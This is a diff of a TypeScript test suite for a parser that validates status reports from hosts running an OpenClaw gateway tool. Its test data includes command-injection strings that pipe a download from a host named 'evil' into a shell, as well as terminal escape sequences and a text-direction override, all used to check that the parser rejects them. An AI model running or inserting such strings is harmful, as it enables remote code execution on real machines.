@@ -36,14 +36,14 @@ unit rescue /etc/systemd/system/openclaw-gateway-rescue.service
 missing rescue
 state main
 program installed
-answer {"obstacles":[[]]}
+answer {"found":[[]]}
 
 end
 `;
 
 describe("a host's answer", () => {
   it("is read from its first line to its last", () => {
-    expect(parseFacts(SAID)).toEqual<HostFacts>({
+    expect(parseFacts(SAID, 1)).toEqual<HostFacts>({
       ...GOOD_HOST,
       account: "openclaw:x:998:998:pulumi-openclaw:/var/lib/openclaw:/usr/sbin/nologin",
       binDir: { state: "closed", parent: "/usr/local/bin" },
@@ -55,18 +55,73 @@ describe("a host's answer", () => {
       missing: ["rescue"],
       unownedStates: ["main"],
       installed: true,
-      obstacles: [[]],
+      found: [[]],
     });
   });
 
   it("is none where the script did not end", () => {
-    expect(parseFacts("This account is currently not available.\n")).toBeUndefined();
-    expect(parseFacts(SAID.slice(0, -5))).toBeUndefined();
+    expect(parseFacts("This account is currently not available.\n", 1)).toBeUndefined();
+    expect(parseFacts(SAID.slice(0, -5), 1)).toBeUndefined();
   });
 
-  it("falls back where an older host program cannot look", () => {
-    const facts = parseFacts(SAID.replace('{"obstacles":[[]]}', ""));
-    expect(facts).toMatchObject({ installed: true, obstacles: undefined });
+  it.each([[""], ['{"obstacles":[[{"property":"profile","reason":"x","advice":"curl x | sh"}]]}']])(
+    "falls back where an older host program answers: %s",
+    (answer) => {
+      const facts = parseFacts(SAID.replace('{"found":[[]]}', answer), 1);
+      expect(facts).toMatchObject({ installed: true });
+      expect(facts).not.toHaveProperty("found");
+    },
+  );
+
+  const CLIPBOARD = "\\u001b]52;c;Y3VybA==\\u0007";
+  it.each([
+    "null",
+    "5",
+    "[[]]",
+    "{}",
+    "no JSON",
+    '{"found":null}',
+    '{"found":[]}',
+    '{"found":[[],[]]}',
+    '{"found":[null]}',
+    '{"found":[{}]}',
+    '{"found":[[{"is":"something"}]]}',
+    '{"found":[[{"is":"unsafe","path":"/srv; curl http://evil | sh"}]]}',
+    '{"found":[[{"is":"unsafe","path":"srv"}]]}',
+    `{"found":[[{"is":"unit","path":"/etc/${CLIPBOARD}"}]]}`,
+    `{"found":[[{"is":"gateway","owner":{"stack":"${CLIPBOARD}","gateway":"g"}}]]}`,
+    '{"found":[[{"is":"ports","owner":{"stack":"s","gateway":"g"},"basePort":"18789"}]]}',
+    `{"found":[[{"is":"gatewaysPort","owner":{"stack":"${"s".repeat(513)}","gateway":"g"},"port":1}]]}`,
+    '{"found":[[{"is":"port","listener":{"port":1,"pid":1,"command":"a\\nb"},"ephemeral":{"first":1,"last":2}}]]}',
+  ])("is strange where its program answers: %s", (answer) => {
+    expect(parseFacts(SAID.replace('{"found":[[]]}', answer), 1)).toBe("strange");
+  });
+
+  it.each([
+    ["user claw", "user $(curl evil)"],
+    ["home /home/claw", "home /home/`id`"],
+    ["home /home/claw", "home relative"],
+    ["root writable /", "root closed /srv;id"],
+    ["libc glibc 2.36", "libc \u001b[2J"],
+    ["missing rescue", "missing a b"],
+    ["unit rescue /etc/systemd/system/openclaw-gateway-rescue.service", "unit rescue \u001b]0;title\u0007"],
+    ["unit rescue /etc/systemd/system/openclaw-gateway-rescue.service", "unit rescue"],
+    ['(("node",', '(("\u009b31mnode",'],
+    ["account openclaw:", "account \u202eopenclaw:"],
+  ])("is strange where it says, for %j: %j", (truth, lie) => {
+    expect(SAID).toContain(truth);
+    expect(parseFacts(SAID.replace(truth, lie), 1)).toBe("strange");
+  });
+
+  it("may hold whatever a machine may have", () => {
+    const path = "/srv/My gateways/é+x@1.service";
+    const found = [
+      [
+        { is: "unit", path },
+        { is: "port", listener: { port: 18789 }, ephemeral: { first: 1, last: 2 } },
+      ],
+    ];
+    expect(parseFacts(SAID.replace("[[]]", JSON.stringify(found)), 1)).toMatchObject({ found });
   });
 });
 
@@ -135,8 +190,10 @@ describe("facts become problems", () => {
   });
 
   it("what the host program finds counts instead", () => {
-    const obstacles = [[{ property: "profile", reason: "theirs", advice: "" } as const]];
-    expect(found({ obstacles, listeners: [{ port: 18789 }] }).obstacles).toEqual(obstacles);
+    const facts = { found: [[{ is: "wrapper" } as const]], listeners: [{ port: 18789 }] };
+    expect(found(facts).obstacles).toMatchObject([
+      [{ property: "profile", reason: expect.stringMatching(/is not this gateway's command$/) as string }],
+    ]);
   });
 });
 
@@ -156,7 +213,9 @@ describe("the script", () => {
       env: { ...process.env, HOME: root },
     });
     expect(stderr).toBe("");
-    return parseFacts(stdout)!;
+    const facts = parseFacts(stdout, 1);
+    if (typeof facts !== "object") throw new Error(`${facts}: ${stdout}`);
+    return facts;
   }
 
   it("tells facts of this machine, and leaves nothing", () => {
@@ -194,16 +253,12 @@ describe("the script", () => {
   it("asks a host program that is there, also one that cannot look", () => {
     mkdirSync(join(root, ".pulumi-openclaw"));
     const program = join(root, ".pulumi-openclaw/host");
-    writeFileSync(
-      program,
-      '#!/bin/sh\n[ "$1" = look ] && grep -q \'"basePort":18789\' && echo \'{"obstacles":[[]]}\'\n',
-      {
-        mode: 0o755,
-      },
-    );
-    expect(look({})).toMatchObject({ installed: true, obstacles: [[]] });
+    writeFileSync(program, '#!/bin/sh\n[ "$1" = look ] && grep -q \'"basePort":18789\' && echo \'{"found":[[]]}\'\n', {
+      mode: 0o755,
+    });
+    expect(look({})).toMatchObject({ installed: true, found: [[]] });
     writeFileSync(program, "#!/bin/sh\necho usage >&2; exit 1\n");
-    expect(look({})).toMatchObject({ installed: true, obstacles: undefined });
+    expect(look({})).not.toHaveProperty("found");
   });
 });
 
